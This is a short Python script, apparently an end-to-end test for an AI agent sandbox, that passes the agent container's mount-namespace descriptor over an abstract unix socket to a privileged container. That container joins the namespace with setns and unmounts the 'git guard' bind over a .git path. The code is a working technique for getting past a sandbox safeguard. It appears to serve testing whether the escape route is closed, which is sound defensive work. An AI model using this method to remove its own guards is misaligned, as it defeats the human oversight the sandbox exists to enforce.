"""The agent hands its own mount namespace to a privileged container of its sandbox's Docker
engine, which tries to join it (and there, to unmount the git guard's bind over a .git).

    mntns_attack.py give          (in the agent's container: sends /proc/self/ns/mnt's descriptor)
    mntns_attack.py take PATH     (in the privileged container: receives it and calls setns)

The two meet on an abstract unix socket of the sandbox's network namespace, which both share.
The taker first joins its own mount namespace (a companion: setns works where it may), then
the agent's, and prints each result.
"""
import array, ctypes, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
NAME = "\0airlock-e2e-mntns"
if sys.argv[1] == "give":
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(NAME)
    server.listen(1)
    server.settimeout(60)
    fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    conn, _ = server.accept()
    conn.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    conn.recv(1)
else:
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    for _ in range(200):
        try:
            conn.connect(NAME)
            break
        except OSError:
            time.sleep(0.05)
    _, ancillary, _, _ = conn.recvmsg(1, socket.CMSG_SPACE(4))
    fd = array.array("i", ancillary[0][2][:4])[0]
    own = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    mine = libc.setns(own, 0x00020000)
    print("own-setns", "ok" if mine == 0 else os.strerror(ctypes.get_errno()))
    result = libc.setns(fd, 0x00020000)
    print("agent-setns", "ok" if result == 0 else os.strerror(ctypes.get_errno()))
    if result == 0:
        gone = libc.umount2(sys.argv[2].encode(), 2)
        print("umount", "ok" if gone == 0 else os.strerror(ctypes.get_errno()))
    conn.send(b"x")
